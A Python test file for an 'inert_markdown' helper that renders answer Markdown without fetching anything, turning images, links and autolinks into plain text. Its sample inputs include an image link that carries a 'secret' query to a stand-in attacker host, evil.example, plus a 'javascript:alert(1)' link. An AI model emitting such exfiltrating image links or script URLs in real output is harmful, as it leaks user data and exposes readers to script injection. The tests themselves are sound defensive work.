"""Answers are drawn as Markdown that fetches nothing: images and links become text."""

from ui.answer_text import inert_markdown


def test_images_and_links_become_text():
    text = ("See ![chart](https://evil.example/x.png?q=secret) and [docs](https://docs.example/a \"t\"), "
            "<https://auto.example/>, **bold** and `code` [auth-p1].\n\n[ref]: https://ref.example/\n")
    shown = inert_markdown(text)
    assert "](" not in shown and "<https" not in shown
    assert "[image: chart `https://evil.example/x.png?q=secret`]" in shown
    assert "docs (`https://docs.example/a`)" in shown and "`https://auto.example/`" in shown
    assert "**bold** and `code` [auth-p1]." in shown  # formatting and citations kept
    assert "`[ref]: https://ref.example/`" in shown


def test_javascript_links_and_empty_images():
    shown = inert_markdown("[click](javascript:alert(1)) ![](data:image/png;base64,AAAA)")
    assert "](" not in shown and shown.startswith("click (`javascript:alert(1`)")
    assert "[image: untitled `data:image/png;base64,AAAA`]" in shown
